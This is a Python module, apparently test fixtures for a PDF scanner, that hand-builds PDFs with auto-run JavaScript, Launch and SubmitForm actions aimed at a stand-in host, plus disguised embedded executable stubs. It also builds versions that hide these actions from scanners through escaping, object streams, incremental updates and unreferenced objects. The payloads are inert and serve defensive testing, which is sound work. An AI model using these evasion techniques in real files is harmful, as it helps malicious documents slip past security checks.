"""PDF files that do something by themselves or hide something, one trick each, written by hand; and files that do
nothing. What would be fetched bears the word of `ELSEWHERE`.
"""

import io
import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import pikepdf

ELSEWHERE = "elsewhere.example"
URL = f"(https://{ELSEWHERE}/x)"
FILE = f"<</Type/Filespec/F({ELSEWHERE})/UF({ELSEWHERE})>>"
SCRIPT = f"<</S/JavaScript/JS(app.launchURL\\('{ELSEWHERE}'\\))>>"
PROGRAM = b"MZ\x90\x00 a program"


@dataclass(frozen=True)
class Page:
    """A file of one page: what its catalogue, its page and an annotation hold beside the usual, and further objects, of
    which the first is number 6."""

    catalogue: str = ""
    page: str = ""
    annotation: str = "/Subtype/Link"
    more: tuple[bytes, ...] = field(default=())

    def objects(self) -> list[bytes]:
        return [
            f"<</Type/Catalog/Pages 2 0 R{self.catalogue}>>".encode(),
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Annots[5 0 R]{self.page}>>".encode(),
            stream(b"0 0 9 9 re f"),
            f"<</Type/Annot/Rect[0 0 9 9]{self.annotation}>>".encode(),
            *self.more,
        ]


def stream(content: bytes, entries: str = "") -> bytes:
    return f"<<{entries}/Length {len(content)}>>".encode() + b"stream\n" + content + b"\nendstream"


def link(action: str) -> Page:
    return Page(annotation=f"/Subtype/Link/A{action}")


def opened(action: str) -> Page:
    return Page(catalogue=f"/OpenAction{action}")


def attached(name: str, content: bytes, annotation: bool) -> Page:
    held = f"<</Type/Filespec/F({name})/UF({name})/EF<</F 6 0 R>>>>"
    more = (stream(content, "/Type/EmbeddedFile"),)
    if annotation:
        return Page(annotation=f"/Subtype/FileAttachment/FS{held}", more=more)
    return Page(catalogue=f"/Names<</EmbeddedFiles<</Names[({name}){held}]>>>>", more=more)


TRICKS: dict[str, Page] = {
    "JavaScript when it is opened": opened(SCRIPT),
    "a program when it is opened": opened(f"<</S/Launch/F{FILE}>>"),
    "a page of the web when it is opened": opened(f"<</S/URI/URI{URL}>>"),
    "a form sent when it is opened": opened(f"<</S/SubmitForm/F<</FS/URL/F{URL}>>/Flags 4>>"),
    "another file when it is opened": opened(f"<</S/GoToR/F{FILE}/D[0/Fit]>>"),
    "a file inside when it is opened": opened(f"<</S/GoToE/F{FILE}/T<</R/C/N(a)>>>>"),
    "data when it is opened": opened(f"<</S/ImportData/F{FILE}>>"),
    "a thread when it is opened": opened(f"<</S/Thread/F{FILE}/D 0>>"),
    "a film when it is opened": opened(f"<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</FS/URL/F{URL}>>>>>>>>"),
    "an unknown act when it is opened": opened(f"<</S/GoSomewhere/F{FILE}>>"),
    "a menu of the program when it is opened": opened("<</S/Named/N/SaveAs>>"),
    "an act without a name": opened(f"<</Type/Action/URI{URL}>>"),
    "what follows when it is opened": opened(f"<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI{URL}>>]>>"),
    "JavaScript by its name": Page(catalogue=f"/Names<</JavaScript<</Names[(a){SCRIPT}]>>>>"),
    "films by their names": Page(catalogue=f"/Names<</Renditions<</Names[(a)<</S/MR/N({ELSEWHERE})>>]>>>>"),
    "a page that acts": Page(page=f"/AA<</O<</S/URI/URI{URL}>>>>"),
    "a page that acts when it is left": Page(page=f"/AA<</C{SCRIPT}>>"),
    "a file that acts when it is closed": Page(catalogue=f"/AA<</WC{SCRIPT}>>"),
    "an annotation that acts when it is seen": Page(annotation=f"/Subtype/Link/AA<</PV<</S/URI/URI{URL}>>>>"),
    "an annotation that acts under the mouse": Page(
        annotation=f"/Subtype/Link/AA<</E<</S/SubmitForm/F{URL}>>>>"
    ),
    "a step of a presentation": Page(page=f"/PresSteps<</Type/NavNode/NA<</S/Launch/F{FILE}>>>>"),
    "a field that counts": Page(
        catalogue="/AcroForm<</Fields[5 0 R]>>", annotation=f"/Subtype/Widget/FT/Tx/T(a)/AA<</K{SCRIPT}>>"
    ),
    "a button that sends": Page(
        catalogue="/AcroForm<</Fields[5 0 R]>>",
        annotation=f"/Subtype/Widget/FT/Btn/T(a)/A<</S/SubmitForm/F{URL}>>",
    ),
    "a form by a program": Page(catalogue=f"/AcroForm<</Fields[]/XFA({ELSEWHERE})>>"),
    "a form that draws itself": Page(
        catalogue=f"/NeedsRendering true/AcroForm<</Fields[]/XFA({ELSEWHERE})>>"
    ),
    "a link to a program": link(f"<</S/Launch/F{FILE}>>"),
    "a link to JavaScript": link(SCRIPT),
    "a link to another file": link(f"<</S/GoToR/F{FILE}/D[0/Fit]>>"),
    "a link whose address runs": link(f"<</S/URI/URI( java\\nscript:{ELSEWHERE})>>"),
    "a link and what follows": link(f"<</S/GoTo/D[3 0 R/Fit]/Next<</S/GoTo/D[3 0 R/Fit]/Next{SCRIPT}>>>>"),
    "a link to a sound": link("<</S/Sound/Sound 6 0 R>>"),
    "an entry of the contents": Page(
        catalogue="/Outlines 6 0 R",
        more=(b"<</First 7 0 R/Last 7 0 R>>", f"<</Title(a)/Parent 6 0 R/A<</S/Launch/F{FILE}>>>>".encode()),
    ),
    "a film": Page(annotation=f"/Subtype/Movie/Movie<</F{FILE}>>/A true"),
    "a screen": Page(annotation=f"/Subtype/Screen/A<</S/Rendition/OP 0/JS({ELSEWHERE})>>"),
    "a drawing that runs": Page(
        annotation="/Subtype/3D/3DD 6 0 R", more=(stream(b"a", f"/Subtype/U3D/OnInstantiate({ELSEWHERE})"),)
    ),
    "a rich medium": Page(annotation=f"/Subtype/RichMedia/RichMediaContent({ELSEWHERE})"),
    "an annotation of another kind": Page(annotation=f"/Subtype/Elsewhere/X({ELSEWHERE})"),
    "words in another file": Page(page="/X 6 0 R", more=(stream(b"", f"/F<</FS/URL/F{URL}>>"),)),
    "a picture of another file": Page(
        page="/Resources<</XObject<</X 6 0 R>>>>",
        more=(stream(b"", f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F{FILE}/Page 0>>"),),
    ),
    "a picture of a server": Page(
        page="/Resources<</XObject<</X 6 0 R>>>>",
        more=(stream(b"", f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/OPI<</2.0<</F{FILE}>>>>"),),
    ),
    "pages of the web": Page(catalogue=f"/SpiderInfo<</V 1.25/C[<</URL{URL}>>]>>"),
    "what it asks for": Page(
        catalogue=f"/Requirements[<</S/EnableJavaScripts/RH[<</S/JS/Script({ELSEWHERE})>>]>>]"
    ),
    "a program attached": attached("facture.xml", PROGRAM, annotation=False),
    "a program behind an annotation": attached("photo.png", PROGRAM, annotation=True),
    "a program by its name": attached("facture.exe", b"<a/>", annotation=True),
    "a page behind an annotation": attached("page.html", b"<html><script/></html>", annotation=True),
    "an office file of 1997 behind an annotation": attached("a.csv", b"\xd0\xcf\x11\xe0", annotation=True),
}
HONEST: dict[str, Page] = {
    "a page": Page(),
    "a place when it is opened": opened("[3 0 R/FitH 99]"),
    "a named place when it is opened": opened("/a"),
    "an act to a place when it is opened": opened("<</S/GoTo/D[3 0 R/XYZ null null 0]>>"),
    "printed when it is opened": opened("<</S/Named/N/Print>>"),
    "a link": link(f"<</S/URI/URI{URL}>>"),
    "a link without http": link("<</S/URI/URI(www.example.org)>>"),
    "a link to a mail": link("<</Type/Action/S/URI/URI(mailto:zoe@example.org)>>"),
    "a link to a page": link("<</S/GoTo/D[3 0 R/Fit]>>"),
    "a form": Page(catalogue="/AcroForm<</Fields[5 0 R]>>", annotation="/Subtype/Widget/FT/Tx/T(a)/V(b)"),
    "notes": Page(annotation="/Subtype/FreeText/Contents(a)"),
    "an invoice attached": attached("factur-x.xml", b"<?xml version='1.0'?><a/>", annotation=False),
    "a picture attached": attached("a.png", b"\x89PNG\r\n\x1a\n", annotation=True),
    "a structure whose attributes have the name of an act": Page(
        catalogue="/StructTreeRoot 6 0 R",
        more=(b"<</Type/StructTreeRoot/K<</S/P/A<</O/Layout/Placement/Block>>>>>>",),
    ),
    "a signature": Page(
        catalogue="/AcroForm<</Fields[5 0 R]/SigFlags 3>>",
        annotation="/Subtype/Widget/FT/Sig/T(a)/V<</Type/Sig/ByteRange[0 1 2 3]/Contents<00>>>",
    ),
}


# -- Writing ---------------------------------------------------------------------------------------------------------


def plain(page: Page) -> bytes:
    return _file(page.objects())


def escaped(page: Page) -> bytes:
    """Each name with its second sign as a number, each word as the numbers of its signs."""
    return _file([_escape(one) for one in page.objects()])


def indirect(page: Page) -> bytes:
    """Each name that says what an act is stands in an object of its own."""
    objects = page.objects()
    for at, content in enumerate(objects):
        for name in re.findall(rb"/S(/\w+)", content):
            objects.append(name)
            objects[at] = objects[at].replace(b"/S" + name, b"/S %d 0 R" % len(objects), 1)
    return _file(objects)


def packed(page: Page) -> bytes:
    return _saved(page, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def locked_from_change(page: Page) -> bytes:
    return _saved(page, encryption=pikepdf.Encryption(owner="a", user=""))


def added_later(page: Page) -> bytes:
    """First an ordinary file, then each object once more (7.5.6)."""
    first = _file(Page().objects())
    return first + _file(page.objects(), before=first)


def damaged(page: Page) -> bytes:
    """Its table of objects is somewhere else: readers look for the objects."""
    return re.sub(rb"startxref\n\d+", b"startxref\n7", plain(page))


def behind_blanks(page: Page) -> bytes:
    return b"\r\n  " + plain(page)


WRITINGS: dict[str, Callable[[Page], bytes]] = {
    "plain": plain,
    "escaped": escaped,
    "indirect": indirect,
    "packed": packed,
    "locked from change": locked_from_change,
    "added later": added_later,
    "damaged": damaged,
    "behind blanks": behind_blanks,
}


def _file(objects: list[bytes], before: bytes = b"") -> bytes:
    out, places = io.BytesIO(b"" if before else b"%PDF-1.7\n"), []
    out.seek(0, io.SEEK_END)
    for number, content in enumerate(objects, start=1):
        places.append(len(before) + out.tell())
        out.write(b"%d 0 obj\n" % number + content + b"\nendobj\n")
    at = len(before) + out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.writelines(b"%010d 00000 n \n" % place for place in places)
    former = re.findall(rb"startxref\n(\d+)", before)
    prior = b"/Prev " + former[-1] if former else b""
    out.write(b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, prior, at))
    return out.getvalue()


def _escape(content: bytes) -> bytes:
    head, mark, rest = content.partition(b"stream\n")
    head = re.sub(rb"\(([^()\\]*)\)", lambda found: b"<" + found[1].hex().encode() + b">", head)
    head = re.sub(rb"/(\w)(\w)", lambda found: b"/%s#%02X" % (found[1], found[2][0]), head)
    return head + mark + rest


def _saved(page: Page, **how: Any) -> bytes:
    kept = io.BytesIO()
    with pikepdf.open(io.BytesIO(plain(page))) as document:
        document.save(kept, **how)
    return kept.getvalue()


# -- Where some readers look and others do not -----------------------------------------------------------------------

_ACTING = f"<</Type/Catalog/Pages 2 0 R/OpenAction{SCRIPT}>>".encode()


def _catalogue(entries: str) -> bytes:
    return plain(Page(catalogue=entries))


def _with_object(content: bytes, written: bytes) -> bytes:
    """With an object that no table knows, before the table."""
    at = content.rindex(b"xref\n0")
    moved = content[:at] + written + content[at:]
    return re.sub(rb"startxref\n\d+", b"startxref\n%d" % (at + len(written)), moved)


def _linearised() -> bytes:
    """A first table, with a catalogue of its own, at the beginning: the other one is named at the end (annex F)."""
    made = plain(Page())
    head = b"%PDF-1.7\n20 0 obj\n<</Linearized 1/L 0009999/N 1>>\nendobj\n"
    first = b"xref\n21 1\n%010d 00000 n \ntrailer\n<</Size 22/Root 21 0 R>>\nstartxref\n0\n%%%%EOF\n"
    at = len(head) + len(first % 0)
    moved = head + first % at + b"21 0 obj\n" + _ACTING + b"\nendobj\n"
    shift = len(moved) - len(b"%PDF-1.7\n")
    rest = re.sub(rb"(\d{10}) 00000 n", lambda row: b"%010d 00000 n" % (int(row[1]) + shift), made)
    rest = re.sub(rb"startxref\n(\d+)", lambda row: b"startxref\n%d" % (int(row[1]) + shift), rest)
    return moved + rest.removeprefix(b"%PDF-1.7\n")


def _in_a_stream(entries: str, data: bytes, first: int = 5, count: int = 1) -> bytes:
    packed = stream(data, f"/Type/ObjStm/N {count}/First {first}{entries}")
    return _with_object(plain(Page()), b"30 0 obj\n" + packed + b"\nendobj\n")


def _replaced(former: bytes) -> bytes:
    """A former version, and over it a page that does nothing."""
    return former + _file(Page().objects(), before=former)


_KEPT_AWAY = b"31 0 " + _ACTING
# Escapes come before what they lead to: its place is counted in what is written.
_OF_STEPS = b"31 0 32 60 33 99 " + f"<</Type/C#61t#61log/OpenAction 32 0 R>>{' ' * 60}".encode()[:60]
_OF_STEPS += f"<</S 33 0 R/URI{URL}>>".encode().ljust(39) + b"/URI"
HIDDEN: dict[str, bytes] = {
    "behind the table of a linearised file": _linearised(),
    "in an object that no table knows": _with_object(plain(Page()), b"7 0 obj\n" + _ACTING + b"\nendobj\n"),
    "in a former version": _replaced(plain(opened(SCRIPT))),
    "in a former version, by steps": _replaced(
        plain(Page(catalogue="/OpenAction 6 0 R", more=(f"<</S 7 0 R/URI{URL}>>".encode(), b"/URI")))
    ),
    "in a former version, of a page": _replaced(
        plain(Page(page=f"/AA<</O<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI{URL}>>]>>>>"))
    ),
    "in a former version, escaped": _replaced(escaped(opened(SCRIPT))),
    "in a key that comes twice": _catalogue(f"/OpenAction<</S/URI/URI{URL}>>/OpenAction[3 0 R/Fit]"),
    "in a key that comes twice, escaped": _catalogue(
        f"/Open#41ction<</S/U#52I/URI{URL}>>/OpenAction[3 0 R/Fit]"
    ),
    "in the name of an act that comes twice": _catalogue("/OpenAction<</S/JavaScript/S/GoTo/D[3 0 R/Fit]>>"),
    "in an address that comes twice": plain(link(f"<</S/URI/URI(javascript:{ELSEWHERE})/URI(a)>>")),
    "in a stream of objects that no table knows": _in_a_stream(
        "/Filter/FlateDecode", zlib.compress(_KEPT_AWAY)
    ),
    "in a stream of objects, by steps": _in_a_stream(
        "/Filter/FlateDecode", zlib.compress(_OF_STEPS), first=17, count=3
    ),
    "in a stream of objects that is not packed": _in_a_stream("", _KEPT_AWAY),
    "in a stream of objects oddly packed": _in_a_stream("/Filter/ASCIIHexDecode", _KEPT_AWAY.hex().encode()),
    "in a file that no table knows": _with_object(
        plain(Page()),
        b"7 0 obj\n<</F(a.exe)/EF<</F 8 0 R>>>>\nendobj\n8 0 obj\n" + stream(PROGRAM) + b"\nendobj\n",
    ),
}
SEEN_ONCE: dict[str, bytes] = {
    "a place in a former version": _replaced(_catalogue("/OpenAction[3 0 R/Fit]")),
    "an act to a place in a former version": _replaced(_catalogue("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>")),
    "a link in a former version": _replaced(plain(link(f"<</S/URI/URI{URL}>>"))),
    "objects in a stream that no table knows": _in_a_stream(
        "/Filter/FlateDecode", zlib.compress(b"31 0 <</A 1>>")
    ),
    "a word in a former version": _replaced(_catalogue("/Title(JavaScript)")),
}

TRICKS["a file inside that acts"] = attached("a.pdf", plain(opened(SCRIPT)), annotation=True)
